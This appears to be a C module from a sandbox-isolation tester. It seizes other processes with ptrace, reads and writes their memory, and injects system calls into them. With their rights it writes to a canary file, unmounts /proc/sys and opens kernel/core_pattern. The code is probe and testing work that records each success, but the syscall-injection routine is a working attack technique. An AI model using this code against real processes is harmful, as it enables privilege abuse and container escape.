/* A process that is seized does what it is told to. */
#include "attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* Whether a seized process stops, in which case it is stopped. */
static int waits(int pid, int *status)
{
    for (int tick = 0; tick < 20000; tick++) {
        int got_it = waitpid(pid, status, __WALL | WNOHANG);
        if (got_it == pid)
            return WIFSTOPPED(*status);
        if (got_it < 0)
            return 0;
        if (tick > 200)
            usleep(10);
    }
    return 0;
}

#ifdef __x86_64__
/* Has a stopped process make one system call, and answers as it does. */
static long make_call(int pid, long number, long first, long second, long third)
{
    struct user_regs_struct saved, now;
    int status;
    if (ptrace(PTRACE_GETREGS, pid, NULL, &saved) != 0)
        return -EPERM;
    errno = 0;
    long code = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, NULL);
    if (errno)
        return -EPERM;
    /* syscall */
    if (ptrace(PTRACE_POKETEXT, pid, saved.rip, (code & ~0xffffL) | 0x050f) != 0)
        return -EPERM;
    now = saved;
    now.rax = (unsigned long long)number;
    now.orig_rax = (unsigned long long)-1;
    now.rdi = (unsigned long long)first;
    now.rsi = (unsigned long long)second;
    now.rdx = (unsigned long long)third;
    long answer = -EPERM;
    if (ptrace(PTRACE_SETREGS, pid, NULL, &now) == 0 && ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) == 0 && waits(pid, &status)
        && ptrace(PTRACE_GETREGS, pid, NULL, &now) == 0 && now.rip == saved.rip + 2)
        answer = (long)now.rax;
    ptrace(PTRACE_POKETEXT, pid, saved.rip, code);
    ptrace(PTRACE_SETREGS, pid, NULL, &saved);
    return answer;
}

static long put_text(int pid, const char *text)
{
    struct user_regs_struct now;
    char padded[256] = "";
    if (ptrace(PTRACE_GETREGS, pid, NULL, &now) != 0)
        return 0;
    strncpy(padded, text, sizeof padded - 1);
    long place = (long)((now.rsp - 4096) & ~15ULL);
    for (size_t index = 0; index < sizeof padded; index += sizeof(long)) {
        long word;
        memcpy(&word, padded + index, sizeof word);
        if (ptrace(PTRACE_POKEDATA, pid, place + (long)index, word) != 0)
            return 0;
    }
    return place;
}

static void command_it(int pid)
{
    struct user_regs_struct now;
    if (ptrace(PTRACE_GETREGS, pid, NULL, &now) == 0) {
        char there[16];
        struct iovec local = { there, sizeof there }, remote = { (void *)now.rsp, sizeof there };
        if (process_vm_readv(pid, &local, 1, &remote, 1, 0) == sizeof there) {
            success(VM_READ, pid);
            if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == sizeof there)
                success(VM_WRITTEN, pid);
        }
    }
    if (make_call(pid, SYS_getppid, 0, 0, 0) < 0)
        return;
    success(MADE_TO_CALL, pid);
    /* With its root and its rights, in place of one's own. */
    long place = canary ? put_text(pid, canary) : 0;
    long file = place ? make_call(pid, SYS_open, place, O_WRONLY | O_APPEND, 0) : -1;
    if (file >= 0) {
        place = put_text(pid, "dead\n");
        if (place && make_call(pid, SYS_write, file, place, 5) == 5)
            success(CANARY, pid);
        make_call(pid, SYS_close, file, 0, 0);
    }
    if (!tries_parameter)
        return;
    place = put_text(pid, "/proc/sys");
    if (place)
        make_call(pid, SYS_umount2, place, 2 /* MNT_DETACH */, 0);
    place = put_text(pid, "/proc/sys/kernel/core_pattern");
    file = place ? make_call(pid, SYS_open, place, O_WRONLY, 0) : -1;
    if (file >= 0) {
        success(PARAMETER, pid);
        make_call(pid, SYS_close, file, 0, 0);
    }
}
#else
static void command_it(int pid) { (void)pid; }
#endif

/* Whether there is such a process. */
int try_seize(int folder, int pid)
{
    int status;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0)
        return errno != ESRCH;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waits(pid, &status)) {
        enum whose now = whose(folder);
        /* Its memory is what was seized: who hides meanwhile is seized all the same. */
        if (now == THEIRS || now == HIDDEN) {
            success(SEIZED, pid);
            if (is_unfiltered(folder))
                success(UNFILTERED, pid);
            try_files(folder, pid);
            try_descriptors(folder, pid);
            command_it(pid);
        }
    }
    /* One that has not stopped yet cannot be let go, and would stop for good. */
    for (int turn = 0; ptrace(PTRACE_DETACH, pid, NULL, NULL) != 0 && turn < 50; turn++)
        waits(pid, &status);
    return 1;
}
